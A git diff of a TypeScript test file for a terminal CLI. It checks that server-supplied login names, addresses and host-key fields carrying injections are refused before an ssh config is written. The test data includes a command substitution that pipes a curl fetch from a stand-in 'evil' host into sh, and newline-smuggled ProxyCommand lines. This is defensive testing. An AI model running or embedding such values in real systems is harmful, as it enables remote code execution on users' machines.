@@ -1,6 +1,6 @@
 // What a managed server, an agent or a stranger writes to whoever reads it in a terminal: nothing that the terminal acts on, and no
 // command that looks like another one.
-import type { EndpointKey, InboxItem, Task } from '@buoy/contract';
+import type { EndpointKey, InboxItem, Server, Task } from '@buoy/contract';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import type { Terminal } from '../src/terminal.ts';
 import { at, read, type ScriptedAnswer, scriptedBuoy, server } from './support/scripted-buoy.ts';
@@ -14,6 +14,7 @@ const acted =
 /** Our own colours and nothing else of that kind. */
 const withoutOwnColours = (text: string): string => text.replace(/\x1b\[(?:0|1|2|31|32|33)m/g, '');
 
+const fingerprint = `SHA256:${'A'.repeat(43)}`;
 const task: Task = {
   ...{ id: 'tsk_1', type: 'openclaw.restart', status: 'succeeded', serverId: 'srv_1', createdBy: '42' },
   ...{ createdAt: at, startedAt: at, finishedAt: at, steps: [], progress: 1, result: null, error: null },
@@ -366,12 +367,16 @@ describe('a hostile server that writes commands for the person to copy', () => {
     expect(out).toBe(`Sent. The answer: buoy openclaw sessions messages srv_1 ${quoted}\n`);
   });
 
-  test('nor by its login name into ssh: it is refused, and no command with it is shown', async () => {
-    const named = { ...server, username: '$(curl$IFS@evil|sh)' };
+  test.each<[string, Partial<Server>]>([
+    ['its login name', { username: '$(curl$IFS@evil|sh)' }],
+    ['its address', { host: 'web.example\n  ProxyCommand evil' }],
+    ['its host key', { hostKey: { algorithm: 'a', fingerprint: 'SHA256:a;evil', pinnedAt: at } }],
+    ['the kind of its key', { hostKey: { algorithm: 'a\nProxyCommand evil', fingerprint, pinnedAt: at } }],
+  ])('nor by %s into ssh: it is refused, and no command with it is shown', async (_what, own) => {
     let started = false;
     const { exit, err } = await buoy(
       ['servers', 'ssh', 'web'],
-      { 'GET /servers': { body: { servers: [named], nextCursor: null } } },
+      { 'GET /servers': { body: { servers: [{ ...server, ...own }], nextCursor: null } } },
       {
         ...person,
         runProgram: async () => {
@@ -381,7 +386,7 @@ describe('a hostile server that writes commands for the person to copy', () => {
       },
     );
     expect({ exit, started }).toEqual({ exit: 1, started: false });
-    expect(err).toContain('The login of web cannot be written into a config of ssh.');
+    expect(err).toContain(' cannot be written into a config of ssh.');
     expect(err).not.toContain('evil');
   });
 });
